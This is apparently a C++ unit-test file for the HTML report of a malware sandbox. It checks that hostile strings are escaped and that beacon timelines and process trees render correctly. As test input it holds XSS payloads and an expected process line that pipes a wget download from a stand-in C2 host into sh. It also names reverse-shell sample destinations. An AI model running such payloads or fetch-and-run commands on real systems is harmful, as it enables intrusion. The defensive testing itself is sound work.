// Unit tests of the HTML report: hostile text never becomes markup, the timeline draws one
// tick per traced attempt and one row per destination, every section renders from the
// sample reports and from an empty one. No root, no browser.
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <sstream>

#include "escape.h"
#include "html_report.h"
#include "samples.h"
#include "timeline.h"

namespace gs::harness::html {
namespace {

using nlohmann::json;
using testing::count;
using testing::load_attempts;
using testing::load_report;

// True when s is well-formed UTF-8 (what a browser needs to show it as we meant).
bool valid_utf8(const std::string& s) {
  for (std::size_t i = 0; i < s.size();) {
    auto b = static_cast<unsigned char>(s[i]);
    int len = b < 0x80 ? 1 : (b >> 5) == 6 ? 2 : (b >> 4) == 14 ? 3 : (b >> 3) == 30 ? 4 : 0;
    if (len == 0 || i + len > s.size()) return false;
    for (int k = 1; k < len; ++k)
      if ((static_cast<unsigned char>(s[i + k]) & 0xC0) != 0x80) return false;
    i += len;
  }
  return true;
}

// Walks every tag of the page and returns the tag and attribute names that are not on the
// renderer's own list: any entry means report text became markup.
std::vector<std::string> foreign_markup(const std::string& page) {
  static const std::set<std::string> tags = {
      "!DOCTYPE", "html", "head", "meta", "title", "style",   "body",    "header", "h1",
      "h2",       "h3",   "div",  "span", "b",     "main",    "section", "p",      "table",
      "tr",       "th",   "td",   "ul",   "li",    "details", "summary", "pre",    "br",
      "i",        "svg",  "rect", "line", "text",  "tspan",   "g",       "footer"};
  static const std::set<std::string> attributes = {
      "class",   "x",          "y",       "width",      "height", "x1",    "x2",    "y1",
      "y2",      "viewBox",    "role",    "aria-label", "id",     "title", "style", "colspan",
      "charset", "http-equiv", "content", "name",       "lang",   "open",  "html"};
  std::vector<std::string> foreign;
  for (std::size_t i = page.find('<'); i != std::string::npos; i = page.find('<', i + 1)) {
    std::size_t j = i + 1;
    if (j < page.size() && page[j] == '/') ++j;
    std::size_t name_end = page.find_first_of(" >/\n", j);
    std::string tag = page.substr(j, name_end - j);
    if (!tags.contains(tag)) foreign.push_back("<" + tag);
    std::size_t end = page.find('>', i);
    if (end == std::string::npos) return foreign.push_back("unterminated tag"), foreign;
    // Attributes: name="value" pairs; values never hold a raw quote or angle bracket.
    std::string inside = page.substr(name_end, end - name_end);
    for (std::size_t k = 0; k < inside.size();) {
      while (k < inside.size() && (inside[k] == ' ' || inside[k] == '/' || inside[k] == '\n')) ++k;
      if (k >= inside.size()) break;
      std::size_t eq = inside.find_first_of("= ", k);
      std::string attr = inside.substr(k, eq - k);
      if (!attributes.contains(attr)) foreign.push_back(tag + "@" + attr);
      if (eq == std::string::npos || inside[eq] != '=') {
        k = eq == std::string::npos ? inside.size() : eq;
        continue;
      }
      if (eq + 1 >= inside.size() || inside[eq + 1] != '"') {
        foreign.push_back(tag + "@" + attr + " unquoted");
        break;
      }
      std::size_t close = inside.find('"', eq + 2);
      if (close == std::string::npos) return foreign.push_back("unterminated attribute"), foreign;
      k = close + 1;
    }
    // The stylesheet is ours and holds no '<'; skip over it as a browser would.
    if (tag == "style") i = page.find("</style>", end);
    if (i == std::string::npos) break;
  }
  return foreign;
}

const std::string hostile =
    "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>]]>\xff\xc0\xaf&amp;\xe2\x80\xae";

json hostile_report() {
  json r = load_report("shloader");
  r["module"]["path"] = hostile;
  r["verdict"] = "malicious\" onmouseover=\"alert(3)";
  r["score"] = 1e300;
  r["error"] = hostile;
  r["started_at"] = hostile;
  r["findings"] = json::array({{{"rule", hostile},
                                {"severity", hostile},
                                {"phase", hostile},
                                {"summary", hostile},
                                {"attack", hostile},
                                {"evidence", {hostile, 7, json::object({{hostile, hostile}})}},
                                {"process_chain", {hostile, 19, json::object({{"exe", hostile}})}},
                                {"destination", hostile}}});
  r["processes"][18]["exe"] = hostile;
  r["processes"][18]["argv"] = {hostile, "-c", hostile};
  r["processes"][18]["phase"] = hostile;
  r["phases"][3]["name"] = hostile;
  r["phases"][3]["status"] = hostile;
  r["phases"][3]["stdout_tail"] = hostile + "\n" + hostile;
  r["phases"][3]["stderr_tail"] = hostile;
  r["phases"][3]["target"] = hostile;
  r["network"]["dns"][0]["name"] = hostile;
  r["network"]["connections"][0]["hostname"] = hostile;
  r["network"]["connections"][0]["http"]["path"] = hostile;
  r["network"]["connections"][0]["http"]["user_agent"] = hostile;
  r["network"]["beacons"] = json::array({{{"destination", hostile},
                                          {"attempts", 3},
                                          {"median_interval_ms", 1000},
                                          {"jitter", 0.1},
                                          {"score", 0.9},
                                          {"confidence", hostile},
                                          {"kind", hostile}}});
  r["network"]["listeners"] = json::array({{{"proto", hostile},
                                            {"ip", hostile},
                                            {"port", hostile},
                                            {"program", hostile},
                                            {"count", hostile},
                                            {"phases", {hostile}}}});
  r["files"][0]["path"] = hostile;
  r["environment"][hostile] = hostile;
  r["syscalls"]["denied"] = json::array({{{"name", hostile}, {"process", hostile}, {"count", 1}}});
  return r;
}

TEST(Escape, MarkupCharactersBecomeEntities) {
  std::string out = escape("<script>\"a\" & 'b' ]]>");
  EXPECT_EQ(out, "&lt;script&gt;&quot;a&quot; &amp; &#39;b&#39; ]]&gt;");
}

TEST(Escape, InvalidUtf8BecomesReplacementCharacters) {
  // A lone continuation byte, an overlong '/', a surrogate, a truncated sequence.
  std::string out = escape(
      "a\x80"
      "b\xc0\xaf"
      "c\xed\xa0\x80"
      "d\xe2\x82");
  EXPECT_TRUE(valid_utf8(out));
  EXPECT_EQ(out.find('/'), std::string::npos) << "overlong '/' decoded: " << out;
  EXPECT_EQ(count(out, "\xef\xbf\xbd"), 8u)
      << out;  // one U+FFFD per byte that starts no valid sequence
  EXPECT_EQ(escape("caf\xc3\xa9 \xf0\x9f\x90\xb9"),
            "caf\xc3\xa9 \xf0\x9f\x90\xb9");  // valid text untouched
}

TEST(Escape, InvisibleAndReorderingCharactersAreShown) {
  EXPECT_EQ(escape("ab\xe2\x80\xae"
                   "cd"),
            "ab\xe2\x9f\xa8U+202E\xe2\x9f\xa9"
            "cd");  // RIGHT-TO-LEFT OVERRIDE
  EXPECT_EQ(escape("\x1b[31m"),
            "\xe2\x9f\xa8U+001B\xe2\x9f\xa9[31m");  // a terminal escape cannot hide
  EXPECT_EQ(escape("a\nb"),
            "a\xe2\x86\xb5"
            "b");  // ↵
  EXPECT_EQ(escape_pre("a\nb\tc\rd"),
            "a\nb\tc\xe2\x9f\xa8U+000D\xe2\x9f\xa9"
            "d");
}

TEST(Escape, TruncationCountsCodePoints) {
  EXPECT_EQ(escape_truncated("\xc3\xa9\xc3\xa9\xc3\xa9", 2), "\xc3\xa9\xc3\xa9\xe2\x80\xa6");
  EXPECT_EQ(escape_truncated("<<", 5), "&lt;&lt;");
}

TEST(Render, HostileReportStringsNeverBecomeMarkup) {
  std::string page = render(hostile_report(), load_attempts("revshell"));
  EXPECT_TRUE(valid_utf8(page));
  std::vector<std::string> foreign = foreign_markup(page);
  EXPECT_TRUE(foreign.empty()) << "first foreign markup: " << foreign.front();
  std::string lower = page;
  std::transform(lower.begin(), lower.end(), lower.begin(),
                 [](unsigned char c) { return std::tolower(c); });
  EXPECT_EQ(lower.find("<script"), std::string::npos);
  EXPECT_EQ(lower.find("<img"), std::string::npos);
  EXPECT_EQ(page.find("]]>"), std::string::npos);
  EXPECT_EQ(page.find("\xe2\x80\xae"), std::string::npos) << "a bidi override reached the page";
  // The text is shown, not dropped: every field above appears in its escaped form.
  EXPECT_GE(
      count(
          page,
          "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&gt;&lt;img src=x onerror=alert(2)&gt;"),
      20u);
  // A verdict outside the known set gets the neutral style, not a class from the report.
  EXPECT_NE(page.find("verdict v-unknown"), std::string::npos);
}

TEST(Render, MalformedTypesStillRender) {
  json r = load_report("revshell");
  r["processes"] = json::array(
      {{{"id", json::array()}, {"parent", 3.5}, {"argv", "not-an-array"}, {"exe", 42}}});
  r["phases"] = json::array({7, "x", {{"start_ms", "soon"}, {"duration_ms", -5}}});
  r["network"]["connections"] =
      json::array({{{"dst_ip", 1}, {"dst_port", "80"}, {"attempts", 1e99}}});
  r["network"]["beacons"] = "none";
  r["findings"] = json::object();
  std::string page = render(r, {});
  EXPECT_NE(page.find("</html>"), std::string::npos);
  EXPECT_TRUE(foreign_markup(page).empty());
}

TEST(Render, ListenersAreShownOnlyWhenThereAreAny) {
  json r = load_report("revshell");
  EXPECT_EQ(render(r, {}).find("Listening sockets"), std::string::npos);
  r["network"]["listeners"] = json::array(
      {{{"proto", "tcp"}, {"ip", "::"}, {"port", 4444}, {"loopback", false},
        {"program", "/work/out/initrunner"}, {"count", 1}, {"first_ms", 771}, {"phases", {"init"}}},
       {{"proto", "tcp"}, {"ip", "127.0.0.1"}, {"port", 0}, {"loopback", true},
        {"program", nullptr}, {"count", 3}, {"first_ms", 900}, {"phases", {"test"}}}});
  std::string page = render(r, {});
  EXPECT_NE(page.find("Listening sockets"), std::string::npos);
  EXPECT_NE(page.find("[::]:4444"), std::string::npos);
  EXPECT_NE(page.find("127.0.0.1:any port (loopback)"), std::string::npos);
  EXPECT_TRUE(foreign_markup(page).empty());
}

TEST(Render, EmptyReportHasEverySection) {
  for (const json& r : {json::object(), json(nullptr), json::array()}) {
    std::string page = render(r, {});
    EXPECT_EQ(page.rfind("<!DOCTYPE html>", 0), 0u);
    for (const char* id : {"findings", "network", "processes", "phases", "files", "run"})
      EXPECT_NE(page.find(std::string("<section id=\"") + id + "\""), std::string::npos) << id;
    EXPECT_NE(page.find("No findings."), std::string::npos);
    EXPECT_NE(page.find("No outbound attempts"), std::string::npos);
    EXPECT_NE(page.find("No DNS queries."), std::string::npos);
    EXPECT_TRUE(foreign_markup(page).empty());
  }
}

TEST(Render, SampleReportHasEverySectionAndNoScript) {
  std::string page = render(load_report("revshell"), load_attempts("revshell"));
  for (const char* id : {"findings", "network", "processes", "phases", "files", "run"})
    EXPECT_NE(page.find(std::string("<section id=\"") + id + "\""), std::string::npos) << id;
  EXPECT_NE(page.find("<svg class=\"timeline\""), std::string::npos);
  EXPECT_NE(page.find("Content-Security-Policy"), std::string::npos);
  EXPECT_EQ(page.find("<script"), std::string::npos);
  EXPECT_EQ(page.find("http://"), std::string::npos) << "a link or resource outside the page";
  EXPECT_EQ(page.find("https://"), std::string::npos);
  EXPECT_TRUE(foreign_markup(page).empty());
  // The phases table: every phase with its status, stdout in a collapsible <pre>.
  EXPECT_NE(page.find("the module has no tests"), std::string::npos);
  EXPECT_NE(page.find("<details><summary>stdout (1.6 KiB)</summary><pre>{\n\t&quot;Dir&quot;"),
            std::string::npos);
}

TEST(Attempts, FromSampleEventsKeepTimesAndSkipDns) {
  std::vector<Attempt> revshell = load_attempts("revshell");
  ASSERT_EQ(revshell.size(), 4u);
  std::vector<int64_t> ms;
  for (const Attempt& a : revshell) {
    EXPECT_EQ(a.destination(), "203.0.113.10:4444");
    EXPECT_EQ(a.proto, "tcp");
    EXPECT_EQ(a.phase, "init");
    EXPECT_TRUE(a.ok) << "EINPROGRESS is a started connection, not a failure";
    ms.push_back(a.ms);
  }
  EXPECT_EQ(ms, (std::vector<int64_t>{1477, 2778, 4079, 5380}));
  std::vector<Attempt> http = load_attempts("httpbeacon");  // its two DNS connects are left out
  ASSERT_EQ(http.size(), 1u);
  EXPECT_EQ(http[0].destination(), "198.19.200.242:80");
}

std::string net_line(int id, int64_t ms, const std::string& op, const std::string& addr, int ret,
                     int fd = 5) {
  return "{\"type\":\"net\",\"id\":" + std::to_string(id) + ",\"ms\":" + std::to_string(ms) +
         ",\"op\":\"" + op + "\",\"pid\":9,\"fd\":" + std::to_string(fd) +
         ",\"ret\":" + std::to_string(ret) + ",\"phase\":\"run\"" +
         (addr.empty() ? "" : ",\"addr\":" + addr) + "}\n";
}

TEST(Attempts, FilterFailuresProtocolsAndGarbage) {
  std::string in;
  in += "{\"type\":\"file\",\"op\":\"openat\",\"path\":\"net\"}\n";
  in += "not json \"net\"\n";
  in += std::string(200000, 'x') + "\"net\"\n";  // longer than any event: skipped unparsed
  in += net_line(1, 10, "connect", R"({"family":"inet","ip":"127.0.0.1","port":80})", 0);
  in += net_line(2, 11, "connect", R"({"family":"inet","ip":"198.18.0.1","port":53})", 0);
  in += net_line(3, 12, "connect", R"({"family":"unix","path":"/run/x"})", -2);
  in += "{\"type\":\"net\",\"op\":\"socket\",\"pid\":9,\"ret\":7,\"sock_type\":2}\n";
  in += net_line(4, 13, "sendto", R"({"family":"inet","ip":"192.0.2.7","port":9999})", 12, 7);
  in += net_line(5, 14, "connect", R"({"family":"inet","ip":"192.0.2.8","port":22})", -111);
  in += net_line(6, 15, "connect", R"({"family":"inet6","ip":"2001:db8::1","port":443})", -115);
  in.pop_back();  // the last line has no newline: a file cut short still counts it
  std::istringstream stream(in);
  std::vector<Attempt> got = attempts_from_events(stream);
  ASSERT_EQ(got.size(), 3u);
  EXPECT_EQ(got[0].destination(), "192.0.2.7:9999");
  EXPECT_EQ(got[0].proto, "udp");
  EXPECT_TRUE(got[0].ok);
  EXPECT_EQ(got[1].destination(), "192.0.2.8:22");
  EXPECT_FALSE(got[1].ok) << "ECONNREFUSED is a failed attempt";
  EXPECT_EQ(got[2].destination(), "[2001:db8::1]:443");
  EXPECT_TRUE(got[2].ok);
  EXPECT_EQ(got[2].event_id, 6);
}

TEST(Attempts, CappedPerDestinationAndInDestinations) {
  std::string in;
  for (int i = 0; i < 2500; ++i)
    in += net_line(i, i, "connect", R"({"family":"inet","ip":"192.0.2.1","port":1})", 0);
  for (int i = 0; i < 400; ++i)
    in += net_line(i, i, "connect",
                   R"({"family":"inet","ip":"198.51.100.1","port":)" + std::to_string(i + 1) + "}",
                   0);
  std::istringstream stream(in);
  std::vector<Attempt> got = attempts_from_events(stream);
  EXPECT_EQ(got.size(), max_attempts_per_destination + (max_destinations - 1));
}

TEST(Timeline, OneTickPerAttemptOneRowPerDestination) {
  json r = load_report("revshell");
  std::string page = render(r, load_attempts("revshell"));
  EXPECT_EQ(count(page, "<rect class=\"tk ok\""), 4u);
  EXPECT_EQ(count(page, "<rect class=\"tk fail\""), 0u);
  EXPECT_EQ(count(page, "<g class=\"row\">"), 1u);
  // The row is labelled with the beacon's score and median interval.
  EXPECT_NE(page.find("beacon 1.00 \u00b7 every 1.301 s"), std::string::npos);
  // Phase bands in the background, ticks inside the init band.
  EXPECT_NE(page.find("<rect class=\"band band-init\""), std::string::npos);

  // Three destinations, 5 + 2 + 1 attempts, one of them failed.
  std::vector<Attempt> attempts;
  auto add = [&](const char* ip, int64_t ms, bool ok) {
    attempts.push_back({.ms = ms,
                        .ip = ip,
                        .port = 443,
                        .proto = "tcp",
                        .op = "connect",
                        .phase = "init",
                        .ok = ok});
  };
  for (int i = 0; i < 5; ++i) add("192.0.2.1", 1500 + i * 700, true);
  add("192.0.2.2", 2000, true);
  add("192.0.2.2", 3000, false);
  add("192.0.2.3", 4000, true);
  json empty_net = r;
  empty_net["network"] = {
      {"connections", json::array()}, {"dns", json::array()}, {"beacons", json::array()}};
  page = render(empty_net, attempts);
  EXPECT_EQ(count(page, "<rect class=\"tk ok\""), 7u);
  EXPECT_EQ(count(page, "<rect class=\"tk fail\""), 1u);
  EXPECT_EQ(count(page, "<g class=\"row\">"), 3u);
  EXPECT_NE(page.find("1 failed"), std::string::npos);
  // Busiest first.
  EXPECT_LT(page.find(">192.0.2.1:443<"), page.find(">192.0.2.2:443<"));
}

TEST(Timeline, FloodStaysSmallAndSaysWhatIsNotDrawn) {
  // The most the reader hands over: every destination at its cap (see the Attempts tests).
  std::vector<Attempt> attempts;
  for (std::size_t d = 0; d < max_destinations; ++d)
    for (std::size_t i = 0; i < max_attempts_per_destination; ++i)
      attempts.push_back({.ms = int64_t(i * 3),
                          .ip = "192.0.2.1",
                          .port = uint16_t(d + 1),
                          .proto = "tcp",
                          .op = "connect"});
  std::string page = render(json::object(), attempts);
  EXPECT_EQ(count(page, "<g class=\"row\">"), max_timeline_rows);
  EXPECT_NE(page.find(std::to_string(max_destinations - max_timeline_rows) +
                      " more destinations are not drawn"),
            std::string::npos);
  EXPECT_LT(page.size(), 4u << 20) << "a flood must not make a page too big to open";
  EXPECT_NE(page.find("tcp \u00b7 2000 attempts, drawing capped"), std::string::npos);
}

TEST(Timeline, TicksAreOrderedInTimeAcrossThePlot) {
  std::string page = render(load_report("revshell"), load_attempts("revshell"));
  std::vector<int> xs;
  for (auto at = page.find("<rect class=\"tk ok\" x=\""); at != std::string::npos;
       at = page.find("<rect class=\"tk ok\" x=\"", at + 1))
    xs.push_back(std::stoi(page.substr(at + 23)));
  ASSERT_EQ(xs.size(), 4u);
  // 1.3 s apart on a 5.6 s axis: equal steps, which is what makes a beacon visible.
  for (std::size_t i = 1; i < xs.size(); ++i) EXPECT_NEAR(xs[i] - xs[i - 1], xs[1] - xs[0], 1);
  EXPECT_GT(xs[1] - xs[0], 100);
}

TEST(Timeline, FallsBackToReportConnectionsWithoutEvents) {
  std::string page = render(load_report("revshell"), {});
  EXPECT_EQ(count(page, "<g class=\"row\">"), 1u);
  EXPECT_EQ(count(page, "class=\"tk "), 0u);
  EXPECT_EQ(count(page, "<rect class=\"est\""), 2u) << "first and last attempt marked";
  EXPECT_NE(page.find("<line class=\"span\""), std::string::npos);
  EXPECT_NE(page.find("4 attempts"), std::string::npos);
}

TEST(Timeline, KeepAliveRequestsShowAsSpanBesideTheTracedConnect) {
  // httpbeacon: one traced connect, five HTTP requests on it; the beacon is named by host.
  std::string page = render(load_report("httpbeacon"), load_attempts("httpbeacon"));
  EXPECT_EQ(count(page, "<g class=\"row\">"), 1u);
  EXPECT_EQ(count(page, "<rect class=\"tk ok\""), 1u);
  EXPECT_EQ(count(page, "<rect class=\"est\""), 2u);
  EXPECT_NE(page.find(">update.c2.test<"), std::string::npos);
  EXPECT_NE(page.find("beacon 0.95 \u00b7 every 960 ms \u00b16%"), std::string::npos);
}

TEST(Processes, TreeNestsModuleProgramsAndCollapsesToolchain) {
  std::string page = render(load_report("shloader"), {});
  auto section = page.substr(page.find("<section id=\"processes\""));
  section = section.substr(0, section.find("</section>"));
  auto details = section.find("<details>");
  ASSERT_NE(details, std::string::npos) << "toolchain processes are collapsed";
  std::string module_part = section.substr(0, details);
  EXPECT_EQ(module_part.find("pkg/tool/linux_amd64"), std::string::npos);
  EXPECT_EQ(module_part.find(">gosandbox<"), std::string::npos) << "jail init shown";
  // initrunner > /bin/sh > (wget, sh): two levels of nesting under the runner.
  auto runner = module_part.find(">/work/out/initrunner<");
  auto sh = module_part.find(">/bin/sh<");
  auto wget = module_part.find(">/usr/bin/wget<");
  ASSERT_TRUE(runner != std::string::npos && sh != std::string::npos && wget != std::string::npos);
  EXPECT_EQ(count(module_part.substr(runner, sh - runner), "<ul>"), 1u);
  EXPECT_EQ(count(module_part.substr(sh, wget - sh), "<ul>"), 1u);
  EXPECT_NE(module_part.find("/bin/sh -c &#39;wget -q -O - http://c2.invalid/payload.sh | sh&#39;"),
            std::string::npos);
  EXPECT_NE(section.find("(14)</summary>"), std::string::npos);
}

TEST(Findings, RenderedWithSeverityAttackEvidenceAndChain) {
  json r = load_report("revshell");
  r["verdict"] = "malicious";
  r["score"] = 90;
  r["findings"] = json::array({{{"rule", "low_rule"},
                                {"severity", "low"},
                                {"phase", "init"},
                                {"summary", "minor"},
                                {"evidence", json::array()},
                                {"attack", "T1082"}},
                               {{"rule", "beacon"},
                                {"severity", "high"},
                                {"phase", "init"},
                                {"summary", "regular check-ins"},
                                {"evidence", {8690, 8692}},
                                {"attack", "T1071.001"},
                                {"process_chain", {18, 19}},
                                {"destination", "203.0.113.10:4444"}}});
  std::string page = render(r, load_attempts("revshell"));
  EXPECT_NE(page.find("verdict v-malicious\">malicious<"), std::string::npos);
  EXPECT_NE(page.find("score <b>90</b>/100"), std::string::npos);
  EXPECT_NE(page.find("<span class=\"attack\">T1071.001</span>"), std::string::npos);
  EXPECT_NE(page.find("#8690, #8692"), std::string::npos);
  EXPECT_NE(page.find("gosandbox #18 \u2192 initrunner #19"), std::string::npos);
  EXPECT_LT(page.find(">beacon<"), page.find(">low_rule<")) << "high severity first";
}

}  // namespace
}  // namespace gs::harness::html
